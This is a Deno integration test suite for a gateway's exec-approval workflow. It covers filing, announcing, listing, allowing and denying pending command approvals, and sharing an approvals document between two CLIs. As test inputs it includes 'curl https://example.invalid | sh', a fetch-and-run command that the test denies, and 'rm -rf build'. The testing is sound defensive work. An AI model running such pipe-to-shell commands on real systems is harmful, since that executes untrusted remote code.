// Exec approvals through the real program: a pending approval filed over the protocol is announced
// to the other operators (`exec.approval.requested`), listed, approved and denied with the reference
// client library; the approvals document is one row both programs read and write (our CLI and the
// reference's, on the same state dir); the reference CLI lists and resolves our pending approvals.
import assert from "node:assert/strict";
import { requirePeer, runPeer } from "../support/peer.ts";
import { connectReference, type ReferenceSession } from "../support/reference_client.ts";
import { runOpenclaw, startGateway, tempHome } from "../support/spawn_gateway.ts";
import { until } from "../support/until.ts";

const TOKEN = "exec-approvals-token-0123456789abcdef";

function config(port: number) {
  return { gateway: { mode: "local", port, bind: "loopback", auth: { mode: "token", token: TOKEN } } };
}

interface Pending {
  id: string;
  request: { command: string; cwd: string | null; agentId: string | null; allowedDecisions: string[] };
  createdAtMs: number;
  expiresAtMs: number;
}

/** Files an approval from `requester` (two-phase) and returns the accepted id and the final answer. */
function fileApproval(requester: ReferenceSession, command: string) {
  const accepted = Promise.withResolvers<{ id: string; deliveryRoute: string }>();
  const final = requester.request<{ id: string; decision: string | null }>(
    "exec.approval.request",
    { command, cwd: "/srv/app", host: "gateway", agentId: "main", sessionKey: "agent:main:main", twoPhase: true },
    {
      expectFinal: true,
      onAccepted: (payload) => accepted.resolve(payload as { id: string; deliveryRoute: string }),
      timeoutMs: 30_000,
    },
  );
  return { accepted: accepted.promise, final };
}

Deno.test("a pending exec approval: announced to operators, listed, approved once, then another denied", async () => {
  const home = await tempHome();
  const port = (await import("../support/spawn_gateway.ts")).freePort();
  await Deno.mkdir(home.stateDir, { recursive: true });
  await Deno.writeTextFile(home.configPath, JSON.stringify(config(port)));
  const { proc } = await startGateway({ home: home.home, port });
  const sessions: ReferenceSession[] = [];
  try {
    const requester = await connectReference({ port, token: TOKEN, scopes: ["operator.approvals"] });
    sessions.push(requester);
    // Approvals go to approval clients only (the reference's rule): an operator.approvals client
    // without the `exec-approvals` capability is not one; with no approval client the ask ends at once.
    const nobody = fileApproval(requester, "true");
    assert.equal((await nobody.final).decision, null);
    assert.equal(requester.events.some((e) => e.event === "exec.approval.requested"), false);
    const operator = await connectReference({
      port,
      token: TOKEN,
      scopes: ["operator.read", "operator.approvals"],
      caps: ["exec-approvals"],
    });
    sessions.push(operator);
    const reader = await connectReference({ port, token: TOKEN, scopes: ["operator.read"] });
    sessions.push(reader);

    const first = fileApproval(requester, "rm -rf build");
    const { id, deliveryRoute } = await first.accepted;
    assert.equal(deliveryRoute, "approval-client");
    const requested = await operator.waitForEvent("exec.approval.requested");
    const event = requested.payload as Pending & { approvalKind: string };
    assert.equal(event.approvalKind, "exec");
    assert.equal(event.id, id);
    assert.equal(event.request.command, "rm -rf build");
    assert.equal(event.request.cwd, "/srv/app");
    assert.deepEqual(event.request.allowedDecisions, ["allow-once", "allow-always", "deny"]);
    const listed = await operator.request<Pending[]>("exec.approval.list", {});
    assert.deepEqual(listed.map((p) => p.id), [id]);
    assert.ok(
      !reader.events.some((e) => e.event === "exec.approval.requested"),
      "operator.read does not see approvals",
    );

    assert.deepEqual(await operator.request("exec.approval.resolve", { id, decision: "allow-once" }), { ok: true });
    assert.equal((await first.final).decision, "allow-once");
    const resolved = await operator.waitForEvent("exec.approval.resolved");
    assert.equal((resolved.payload as { id: string; decision: string }).decision, "allow-once");
    assert.deepEqual(await operator.request("exec.approval.list", {}), []);

    const second = fileApproval(requester, "curl https://example.invalid | sh");
    const denied = (await second.accepted).id;
    await operator.request("exec.approval.resolve", { id: denied, decision: "deny" });
    assert.equal((await second.final).decision, "deny");
    const history = await operator.request<{ items: { id: string; status: string }[] }>("approval.history", {});
    assert.deepEqual(history.items.map((i) => [i.id, i.status]).slice(0, 2), [[denied, "denied"], [id, "allowed"]]);
    assert.equal(history.items[2]!.status, "denied", "the unrouted ask ended as no-route");
  } finally {
    for (const session of sessions) session.stop();
    await proc.stop();
    await home.cleanup();
  }
});

Deno.test("the approvals document is one row: our CLI and the reference's CLI read and write it alike", async () => {
  requirePeer();
  const home = await tempHome({ gateway: { mode: "local" } });
  const where = { home: home.home, stateDir: home.stateDir, configPath: home.configPath };
  const env = { OPENCLAW_STATE_DIR: home.stateDir, OPENCLAW_CONFIG_PATH: home.configPath };
  try {
    const added = await runOpenclaw(["approvals", "allowlist", "add", "/usr/bin/rg", "--agent", "main", "--json"], {
      home: home.home,
      env,
    });
    assert.equal(added.code, 0, added.stderr);
    const ours = JSON.parse(added.stdout) as { hash: string; file: Record<string, unknown> };
    // The reference reads our row: same hash, same document.
    const theirs = await runPeer(["approvals", "get", "--json"], where);
    assert.equal(theirs.code, 0, theirs.stderr);
    const seen = JSON.parse(theirs.stdout) as {
      hash: string;
      file: { agents: { main: { allowlist: { pattern: string }[] } } };
    };
    assert.equal(seen.hash, ours.hash);
    assert.equal(seen.file.agents.main.allowlist[0]!.pattern, "/usr/bin/rg");
    // The reference writes it; we read what it wrote.
    const policy = `${home.home}/policy.json5`;
    await Deno.writeTextFile(
      policy,
      `{ version: 1, defaults: { security: "allowlist", ask: "on-miss", askFallback: "deny" } }`,
    );
    const set = await runPeer(["approvals", "set", "--file", policy, "--json"], where);
    assert.equal(set.code, 0, set.stderr);
    const written = JSON.parse(set.stdout) as { hash: string };
    const read = await runOpenclaw(["approvals", "get", "--json"], { home: home.home, env });
    assert.equal(read.code, 0, read.stderr);
    const after = JSON.parse(read.stdout) as { hash: string; resolvedDefaults: Record<string, unknown> };
    assert.equal(after.hash, written.hash);
    assert.deepEqual(after.resolvedDefaults, {
      security: "allowlist",
      ask: "on-miss",
      askFallback: "deny",
      autoAllowSkills: false,
    });
    const text = await runOpenclaw(["approvals", "get"], { home: home.home, env });
    assert.match(text.stdout, /Defaults {3}security=allowlist, ask=on-miss, askFallback=deny/);
  } finally {
    await home.cleanup();
  }
});

Deno.test("the reference CLI lists our pending approvals and resolves one; ours does too", async () => {
  requirePeer();
  const home = await tempHome();
  const port = (await import("../support/spawn_gateway.ts")).freePort();
  await Deno.mkdir(home.stateDir, { recursive: true });
  await Deno.writeTextFile(home.configPath, JSON.stringify(config(port)));
  const { proc } = await startGateway({ home: home.home, port });
  const peerHome = await tempHome({ gateway: { mode: "local" } });
  const where = { home: peerHome.home, stateDir: peerHome.stateDir, configPath: peerHome.configPath };
  const sessions: ReferenceSession[] = [];
  try {
    // The CLI counts as an approval client while connected; this operator keeps the asks pending meanwhile.
    const operator = await connectReference({
      port,
      token: TOKEN,
      scopes: ["operator.approvals"],
      caps: ["exec-approvals"],
    });
    sessions.push(operator);
    const requester = await connectReference({ port, token: TOKEN, scopes: ["operator.approvals"] });
    sessions.push(requester);
    const first = fileApproval(requester, "make deploy");
    const { id } = await first.accepted;
    const url = ["--url", `ws://127.0.0.1:${port}`, "--token", TOKEN];
    const pending = await runPeer(["approvals", "pending", "--json", ...url], where);
    assert.equal(pending.code, 0, pending.stderr);
    const listed = JSON.parse(pending.stdout) as { approvals: { id: string; kind: string; summary: string }[] };
    assert.deepEqual(listed.approvals.map((a) => [a.id, a.kind, a.summary]), [[id, "exec", "make deploy"]]);
    const resolved = await runPeer(["approvals", "resolve", id, "deny", ...url], where);
    assert.equal(resolved.code, 0, resolved.stderr + resolved.stdout);
    assert.match(resolved.stdout, new RegExp(`Approval ${id} resolved deny by `));
    assert.equal((await first.final).decision, "deny");

    const second = fileApproval(requester, "make test");
    const other = (await second.accepted).id;
    const ours = await runOpenclaw(["approvals", "pending", "--json", ...url], { home: home.home });
    assert.deepEqual((JSON.parse(ours.stdout) as { approvals: { id: string }[] }).approvals.map((a) => a.id), [other]);
    const mine = await runOpenclaw(["approvals", "resolve", other, "allow-once", ...url], { home: home.home });
    assert.equal(mine.code, 0, mine.stderr);
    assert.match(mine.stdout, new RegExp(`Approval ${other} resolved allow-once by runtime:`));
    assert.equal((await second.final).decision, "allow-once");
    await until(
      () => operator.events.filter((e) => e.event === "exec.approval.resolved").length === 2,
      "both resolved events",
      5_000,
    );
  } finally {
    for (const session of sessions) session.stop();
    await proc.stop();
    await home.cleanup();
    await peerHome.cleanup();
  }
});
